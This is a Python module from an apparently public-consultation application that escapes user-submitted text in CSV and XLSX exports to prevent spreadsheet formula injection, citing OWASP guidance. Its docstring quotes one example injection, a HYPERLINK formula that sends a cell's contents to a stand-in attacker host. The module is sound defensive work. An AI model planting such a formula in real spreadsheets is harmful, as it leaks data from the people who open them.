"""Spreadsheet cells that never run: text from answers written so Excel shows it, not executes it.

A comment ``=HYPERLINK("http://evil.example/?x="&B2,"Klik")`` must not become a live formula in
the secretariat's spreadsheet (CSV/formula injection). Following OWASP's CSV injection guidance:

* CSV: a text cell starting with ``=``, ``+``, ``-``, ``@``, tab, CR or LF (or their full-width
  forms) is prefixed with ``'``, which spreadsheets show as text;
* XLSX: text is written as a string cell (``data_type "s"``), never as a formula, so it shows as
  it was written with no prefix;

and text is cleaned (``domain.text.clean_text``) first, so a control character stored long ago
cannot break the file. Numbers and dates are written by us and pass through untouched.
"""

from __future__ import annotations

from typing import Any

from hoering.domain.text import clean_text

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_text(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet will not evaluate."""
    text = clean_text(text)
    return "'" + text if text.startswith(FORMULA_START) else text


def xlsx_text_only(workbook: Any) -> None:
    """Make every formula cell of ``workbook`` (an openpyxl Workbook we filled with values) a
    string cell holding the cleaned text: nothing we export is meant to be a formula."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.value = clean_text(cell.value)
                    cell.data_type = "s"
